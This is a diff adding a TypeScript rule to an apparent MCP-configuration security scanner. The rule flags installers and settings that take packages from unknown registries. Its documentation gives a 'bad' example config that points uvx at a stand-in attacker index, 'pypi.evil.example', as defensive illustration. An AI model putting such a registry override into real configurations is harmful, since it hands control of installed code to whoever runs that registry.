@@ -1,0 +1,84 @@
+import { lowered } from '../../finding/finding';
+import type { Fix } from '../../finding/fix';
+import { withoutSetting, withoutWords } from '../../finding/removals';
+import type { Report } from '../../finding/report';
+import { KNOWN_REGISTRIES, PRIVATE_REGISTRIES, REGISTRY_OPTIONS, REGISTRY_VARIABLES } from '../../knowledge/registries';
+import { settingsOf, variablesOf } from '../../launch/given';
+import { everyCommand, type Launch } from '../../launch/launch';
+import { placeOf, readAddress } from '../../model/address';
+import { visible } from '../../text/invisible';
+import { part, type Text } from '../../text/text';
+import { type CheckedFile, defineRule } from '../rule';
+
+const INSTALLERS = /^(?:pip3?|npm|pnpm|yarn|bun|poetry|pipx|uv|go|cargo|dotnet)$/;
+
+/** Packages taken from somebody else's registry. */
+export default defineRule({
+  title: 'Packages from an unknown registry',
+  severity: 'critical',
+  docs: {
+    why: 'Whoever runs that registry decides what code runs here, whatever name and version the command shows. An extra index wins over the usual one by offering a higher version.',
+    remedy: 'Remove the setting. Registries of your organisation belong into your own settings.',
+    bad: '{ "mcpServers": { "x": { "command": "uvx", "args": ["--index-url", "https://pypi.evil.example/simple", "x==1.0.0"] } } }',
+    good: '{ "mcpServers": { "x": { "command": "uvx", "args": ["x==1.0.0"] } } }',
+    references: ['https://cwe.mitre.org/data/definitions/427.html', 'https://docs.astral.sh/uv/concepts/indexes/'],
+  },
+  checkServer(server, report) {
+    const say = sayer(server.file, report);
+    const { document } = server.file;
+    for (const { name, value, member } of variablesOf(server)) {
+      if (REGISTRY_VARIABLES.test(name.value.toLowerCase())) say(value, withoutSetting(document, member));
+    }
+    for (const { name, value, words } of everyCommand(server.launch).flatMap(optionsIn)) {
+      if (REGISTRY_OPTIONS.test(name)) say(value, withoutWords(document, server, words));
+    }
+  },
+  checkFile(file, report) {
+    const say = sayer(file, report);
+    for (const { name, value, member } of settingsOf(file.environment)) {
+      if (REGISTRY_VARIABLES.test(name.value.toLowerCase())) say(value, withoutSetting(file.document, member));
+    }
+  },
+});
+
+interface Option {
+  readonly name: string;
+  readonly value: Text;
+  readonly words: readonly Text[];
+}
+
+/** Options of the runner; of other words only those of installers, as a server may have a `--registry` of its own. */
+function optionsIn({ flags, wrappers, args, runner = '' }: Launch): Option[] {
+  const own = [...flags, ...wrappers.flatMap(it => it.flags)].flatMap(({ name, value }) =>
+    value ? [{ name: name.value, value, words: [name, value] }] : [],
+  );
+  if (!INSTALLERS.test(runner)) return own;
+  const given = args.flatMap((word, index): Option[] => {
+    const equals = word.value.indexOf('=');
+    if (equals > 0) return [{ name: word.value.slice(0, equals), value: part(word, equals + 1), words: [word] }];
+    const next = args[index + 1];
+    return next ? [{ name: word.value, value: next, words: [word, next] }] : [];
+  });
+  return [...own, ...given];
+}
+
+const sayer =
+  ({ scope }: CheckedFile, report: Report) =>
+  (value: Text, fixes: Fix[]): void => {
+    for (const { index } of value.value.slice(0, 2000).matchAll(/(?<![a-z])https?:\/\//gi)) {
+      const host = readAddress(value, index)?.host ?? '';
+      const place = placeOf(host);
+      if (place === 'unknown' || KNOWN_REGISTRIES.test(host)) continue;
+      const isOwn = place !== 'public' || PRIVATE_REGISTRIES.test(host);
+      const severity = scope === 'workspace' ? 'critical' : lowered('critical');
+      const shown = visible(host.slice(0, 80));
+      report(
+        value,
+        isOwn ? `Takes packages from ${shown}` : `Takes packages from ${shown}, which decides what code runs here`,
+        {
+          severity: isOwn ? 'info' : severity,
+          fixes: isOwn ? [] : fixes,
+        },
+      );
+    }
+  };
